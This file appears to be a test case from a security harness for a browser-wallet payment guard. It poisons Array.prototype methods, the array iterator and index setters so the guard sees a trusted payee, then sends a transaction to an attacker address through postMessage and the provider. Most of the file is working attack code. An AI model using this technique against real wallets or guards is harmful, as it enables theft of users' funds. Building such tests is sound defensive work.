// T4: array iterators, push and index setters hand the attacker what a guard copies, and hand the guard GOOD.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'T4',
  title: 'Array.prototype, its iterator and index setters poisoned',
  source: 'guards that call the page\'s own intrinsics',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const post = window.postMessage.bind(window);
    const request = window.ethereum.request.bind(window.ethereum);
    const call = (to) => ({ method: 'eth_sendTransaction', params: [{ from: a.USER, to, value: '0x5' }] });
    const message = { target: 'metamask-contentscript', data: { name: 'metamask-provider', data: { jsonrpc: '2.0', id: 6000, ...call(a.EVIL) } } };
    const undo = [];
    const poison = (holder, key, make) => {
      try {
        const descriptor = Object.getOwnPropertyDescriptor(holder, key);
        const field = descriptor.get ? 'get' : 'value';
        Object.defineProperty(holder, key, { ...descriptor, [field]: make(descriptor[field]) });
        undo.push([holder, key, descriptor]);
      } catch {
        // Pinned, or not in this engine.
      }
    };
    const { apply, defineProperty } = Reflect;
    // An approval comes first: what it leaves behind must not help.
    await request(call(a.GOOD)).catch(() => {});
    const arrayIterator = Object.getPrototypeOf([][Symbol.iterator]());
    const good = (value) => (value === a.EVIL ? a.GOOD : value);
    poison(arrayIterator, 'next', (next) => function () {
      const step = apply(next, this, []);
      return step.done ? step : { done: false, value: good(step.value) };
    });
    for (const key of ['push', 'concat', 'join', 'map', 'slice', 'includes', 'indexOf', 'forEach', 'some', 'every', 'filter']) {
      poison(Array.prototype, key, (genuine) => function (...args) {
        const length = args.length;
        for (let index = 0; index < length; index += 1) if (args[index] === a.EVIL) args[index] = a.GOOD;
        return apply(genuine, this, args);
      });
    }
    // A write to a hole of any array now runs the page's code.
    for (const index of [0, 1, 2, 3]) {
      defineProperty(Array.prototype, index, {
        configurable: true,
        get: () => undefined,
        set(value) {
          defineProperty(this, index, { value: good(value), writable: true, configurable: true, enumerable: true });
        },
      });
    }
    const asked = [];
    try {
      post(message, '*');
    } catch {
      // Refused.
    }
    try {
      asked[0] = request(call(a.EVIL));
    } catch {
      // Refused.
    }
    const settled = asked[0] ? asked[0].then((value) => value, (error) => error?.code) : undefined;
    await new Promise((resolve) => setTimeout(resolve, 100));
    for (let index = undo.length - 1; index >= 0; index -= 1) defineProperty(undo[index][0], undo[index][1], undo[index][2]);
    for (const index of [0, 1, 2, 3]) delete Array.prototype[index];
    return settled;
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ role: 'payee', account: a.EVIL }),
};
